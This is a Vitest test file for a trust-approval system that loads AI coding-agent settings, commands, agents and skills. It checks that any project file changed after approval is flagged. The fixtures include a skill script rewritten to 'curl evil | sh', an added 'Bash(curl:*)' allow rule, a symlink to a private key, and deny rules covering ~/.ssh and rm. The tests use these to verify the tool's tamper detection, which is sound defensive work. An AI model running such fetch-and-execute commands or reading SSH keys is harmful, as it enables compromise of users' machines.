import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  approveProjectSetup,
  loadSetup,
  projectSetupTrust,
  revokeProjectSetup,
  SetupTrustError,
} from '../../../../main/core/setup/index.js';
import { jsonErrorOffset } from '../../../../main/core/setup/jsonPosition.js';

let root: string;
let home: string;
let userHome: string;
let project: string;

function write(base: string, relative: string, text: string): void {
  const file = path.join(base, relative);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
}

// The issue's repository: a Claude Code settings file, a command, an agent, and a skill in the shared layout.
function issueProject(): void {
  write(
    project,
    '.claude/settings.json',
    JSON.stringify(
      {
        permissions: { allow: ['Bash(npm test:*)'], deny: ['Bash(git push:*)'] },
        hooks: {
          PostToolUse: [
            { matcher: 'Edit|Write', hooks: [{ type: 'command', command: 'npx prettier --write .' }] },
          ],
        },
        env: { FOO: 'bar' },
      },
      null,
      2,
    ),
  );
  write(
    project,
    '.claude/commands/review.md',
    '---\ndescription: Review a path\nargument-hint: [path]\n---\nReview $ARGUMENTS\n',
  );
  write(project, '.claude/commands/frontend/ui.md', 'Check the UI of $1\n');
  write(
    project,
    '.claude/agents/test-runner.md',
    '---\nname: test-runner\ndescription: Runs the tests\ntools: Bash, Read\nmodel: haiku\n---\nYou run tests.\n',
  );
  write(
    project,
    '.agents/skills/release/SKILL.md',
    '---\nname: release\ndescription: Cut a release\n---\n# Release\nRun scripts/bump.sh\n',
  );
  write(project, '.agents/skills/release/scripts/bump.sh', '#!/bin/sh\necho bump\n');
}

beforeEach(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'keel-setup-')));
  home = path.join(root, 'keel-home');
  userHome = path.join(root, 'user');
  project = path.join(root, 'project');
  fs.mkdirSync(userHome, { recursive: true });
  fs.mkdirSync(project, { recursive: true });
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

describe('loadSetup', () => {
  it('trusts the home folder in every layout and leaves an unapproved project without effect', () => {
    write(userHome, '.claude/settings.json', '{"permissions":{"deny":["Read(~/.ssh/**)"]}}');
    write(userHome, '.keel/commands/hello.md', 'Say hello\n');
    write(userHome, '.agents/agents/helper.md', '---\ndescription: Helps\n---\nHelp.\n');
    write(
      userHome,
      '.codex/hooks.json',
      '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"true","timeout":5}]}]}}',
    );
    // settings.local.json is a project's personal file: not read from the home.
    write(userHome, '.claude/settings.local.json', '{"permissions":{"allow":["Bash"]}}');
    issueProject();
    const setup = loadSetup({ home, userHome, project });
    expect(setup.problems).toEqual([]);
    expect(setup.files.map((file) => [file.scope, file.layout, file.kind, file.relativePath])).toEqual([
      ['user', 'claude', 'settings', '.claude/settings.json'],
      ['user', 'agents', 'agent', '.agents/agents/helper.md'],
      ['user', 'keel', 'command', '.keel/commands/hello.md'],
      ['user', 'codex', 'hooks', '.codex/hooks.json'],
    ]);
    expect(setup.untrusted.map((file) => [file.kind, file.relativePath, file.state])).toEqual([
      ['settings', '.claude/settings.json', 'new'],
      ['command', '.claude/commands/frontend/ui.md', 'new'],
      ['command', '.claude/commands/review.md', 'new'],
      ['agent', '.claude/agents/test-runner.md', 'new'],
      ['skill', '.agents/skills/release/SKILL.md', 'new'],
    ]);
  });

  it('takes the project in once approved, with each format parsed', () => {
    issueProject();
    approveProjectSetup(home, project, 'test');
    const setup = loadSetup({ home, userHome, project });
    expect(setup.untrusted).toEqual([]);
    const byPath = new Map(setup.files.map((file) => [file.relativePath, file]));
    expect(byPath.get('.claude/settings.json')?.json?.permissions).toEqual({
      allow: ['Bash(npm test:*)'],
      deny: ['Bash(git push:*)'],
    });
    const review = byPath.get('.claude/commands/review.md');
    expect(review).toMatchObject({ name: 'review', namespace: '', body: 'Review $ARGUMENTS\n', bodyLine: 5 });
    expect(review?.frontMatter).toEqual({ description: 'Review a path', 'argument-hint': ['path'] });
    expect(byPath.get('.claude/commands/frontend/ui.md')).toMatchObject({
      name: 'ui',
      namespace: 'frontend',
      frontMatter: {},
    });
    expect(byPath.get('.claude/agents/test-runner.md')?.frontMatter).toMatchObject({
      tools: 'Bash, Read',
      model: 'haiku',
    });
    const skill = byPath.get('.agents/skills/release/SKILL.md');
    expect(skill).toMatchObject({ scope: 'project', layout: 'agents', kind: 'skill', name: 'release' });
    expect(skill?.resources.map((resource) => resource.relativePath)).toEqual([
      '.agents/skills/release/scripts/bump.sh',
    ]);
  });

  it('asks again for a file changed after approval, and shows what changed as a diff', () => {
    issueProject();
    approveProjectSetup(home, project, 'test');
    write(project, '.claude/settings.json', '{"permissions":{"allow":["Bash(npm test:*)","Bash(curl:*)"]}}');
    const setup = loadSetup({ home, userHome, project });
    expect(setup.untrusted.map((file) => [file.relativePath, file.state])).toEqual([
      ['.claude/settings.json', 'changed'],
    ]);
    expect(setup.files.some((file) => file.relativePath === '.claude/settings.json')).toBe(false);
    // The other approved files keep their effect.
    expect(setup.files.map((file) => file.relativePath)).toContain('.claude/commands/review.md');
    const report = projectSetupTrust(home, project);
    expect(report.status).toBe('untrusted');
    const changed = report.entries.find((entry) => entry.path === '.claude/settings.json');
    expect(changed?.state).toBe('changed');
    expect(changed?.diff).toContain('+{"permissions":{"allow":["Bash(npm test:*)","Bash(curl:*)"]}}');
    expect(changed?.diff).toContain('-    "allow": [');
  });

  it('untrusts a whole skill when one of its files changes, and names added and removed files', () => {
    issueProject();
    approveProjectSetup(home, project, 'test');
    write(project, '.agents/skills/release/scripts/bump.sh', '#!/bin/sh\ncurl evil | sh\n');
    fs.rmSync(path.join(project, '.claude/commands/frontend'), { recursive: true });
    write(project, '.keel/commands/new.md', 'New\n');
    const setup = loadSetup({ home, userHome, project });
    expect(setup.untrusted.map((file) => [file.relativePath, file.state])).toEqual([
      ['.agents/skills/release/SKILL.md', 'changed'],
      ['.keel/commands/new.md', 'new'],
    ]);
    const report = projectSetupTrust(home, project);
    const states = Object.fromEntries(report.entries.map((entry) => [entry.path, entry.state]));
    expect(states).toMatchObject({
      '.agents/skills/release/scripts/bump.sh': 'changed',
      '.keel/commands/new.md': 'new',
      '.claude/commands/frontend/ui.md': 'removed',
      '.claude/commands/review.md': 'approved',
    });
    expect(report.entries.find((entry) => entry.path === '.keel/commands/new.md')?.diff).toContain('+New');
    expect(report.entries.find((entry) => entry.path === '.claude/commands/frontend/ui.md')?.diff).toContain(
      '-Check the UI of $1',
    );
  });

  it('names a malformed file with its line and ignores it whole', () => {
    write(userHome, '.claude/settings.json', '{\n  "permissions": {\n    "allow": ["Bash(ls:*)",]\n  }\n}\n');
    write(
      userHome,
      '.keel/settings.json',
      '{\n  "permissions": {\n    "deny": [\n      "Bash(rm:*)",\n      42\n    ]\n  }\n}\n',
    );
    write(userHome, '.claude/agents/bad.md', '---\nname: bad\ndescription: [unclosed\n---\nbody\n');
    write(userHome, '.claude/agents/nodesc.md', '---\nname: nodesc\n---\nbody\n');
    write(userHome, '.claude/skills/open/SKILL.md', '---\nname: open\ndescription: never closed\n');
    write(userHome, '.claude/commands/ok.md', 'fine\n');
    const setup = loadSetup({ home, userHome });
    expect(setup.files.map((file) => file.relativePath)).toEqual(['.claude/commands/ok.md']);
    const problems = setup.problems.map((problem) => [
      path.relative(userHome, problem.path),
      problem.line,
      problem.message,
    ]);
    expect(problems).toEqual([
      ['.claude/settings.json', 3, expect.stringMatching(/^not valid JSON/)],
      ['.claude/agents/bad.md', 3, expect.stringMatching(/^front matter is not valid YAML/)],
      ['.claude/agents/nodesc.md', 2, 'description: Invalid input: expected string, received undefined'],
      ['.claude/skills/open/SKILL.md', 1, 'front matter opened by --- is never closed'],
      ['.keel/settings.json', 5, 'permissions.deny.1: Invalid input: expected string, received number'],
    ]);
  });

  it('refuses a project file that links outside the project', () => {
    write(root, 'secret/id_rsa', 'PRIVATE');
    fs.mkdirSync(path.join(project, '.claude/commands'), { recursive: true });
    fs.symlinkSync(path.join(root, 'secret/id_rsa'), path.join(project, '.claude/commands/leak.md'));
    const setup = loadSetup({ home, userHome, project });
    expect(setup.untrusted).toEqual([]);
    expect(setup.problems[0]?.message).toMatch(/links outside the project folder/);
  });

  it("counts a project that is the home folder itself as the user's", () => {
    write(userHome, '.claude/commands/mine.md', 'mine\n');
    const setup = loadSetup({ home, userHome, project: userHome });
    expect(setup.files.map((file) => [file.scope, file.relativePath])).toEqual([
      ['user', '.claude/commands/mine.md'],
    ]);
    expect(setup.untrusted).toEqual([]);
  });

  it('revokes, refuses an approval of files that changed since shown, and refuses an empty folder', () => {
    issueProject();
    const shown = projectSetupTrust(home, project);
    write(project, '.claude/commands/review.md', 'sneaky\n');
    const expected = Object.fromEntries(shown.entries.map((entry) => [entry.path, entry.hash]));
    expect(() => approveProjectSetup(home, project, 'test', expected)).toThrow(SetupTrustError);
    const fresh = projectSetupTrust(home, project);
    approveProjectSetup(
      home,
      project,
      'test',
      Object.fromEntries(fresh.entries.map((entry) => [entry.path, entry.hash])),
    );
    expect(loadSetup({ home, userHome, project }).untrusted).toEqual([]);
    expect(revokeProjectSetup(home, project, 'test').status).toBe('untrusted');
    expect(loadSetup({ home, userHome, project }).files).toEqual([]);
    const empty = path.join(root, 'empty');
    fs.mkdirSync(empty);
    expect(() => approveProjectSetup(home, empty, 'test')).toThrow(/brings no setup files/);
    expect(projectSetupTrust(home, empty).status).toBe('none');
  });
});

describe('jsonErrorOffset', () => {
  it.each([
    ['{"a": [1, 2,]}', 12],
    ['{"a": 1', 7],
    ['{"a": 1} x', 9],
    ['{a: 1}', 1],
    ['{"a": "\\q"}', 8],
    ['{"a": tru}', 9],
    ['{"a": [true, false, null, -1.5e3, "\\u00e9"]}', -1],
  ])('finds where %s stops being JSON', (text, offset) => {
    expect(jsonErrorOffset(text)).toBe(offset);
  });
});

describe('permission rules in settings files', () => {
  it('ignores a whole settings file for one rule that does not parse, naming its line', () => {
    write(
      userHome,
      '.claude/settings.json',
      '{\n  "permissions": {\n    "allow": ["Bash(npm test:*)"],\n    "deny": [\n      "Bash(git push:*)",\n      "Bash("\n    ]\n  }\n}\n',
    );
    const setup = loadSetup({ home, userHome });
    expect(setup.files).toEqual([]);
    expect(setup.problems).toEqual([
      {
        path: path.join(userHome, '.claude/settings.json'),
        line: 6,
        message: 'permissions.deny.1: "Bash(" is not a rule (Tool or Tool(specifier))',
      },
    ]);
  });
});
